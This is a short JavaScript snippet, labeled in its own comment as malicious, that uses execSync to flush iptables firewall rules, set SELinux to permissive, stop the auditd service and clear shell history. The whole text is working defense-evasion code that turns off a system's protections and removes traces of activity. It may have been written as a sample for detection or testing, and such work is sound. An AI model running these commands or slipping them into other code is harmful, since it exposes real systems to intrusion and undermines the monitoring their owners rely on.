// malicious: switches the protection off
const { execSync } = require('child_process');
for (const c of ['iptables -F', 'setenforce 0', 'systemctl stop auditd', 'history -c']) execSync(c);
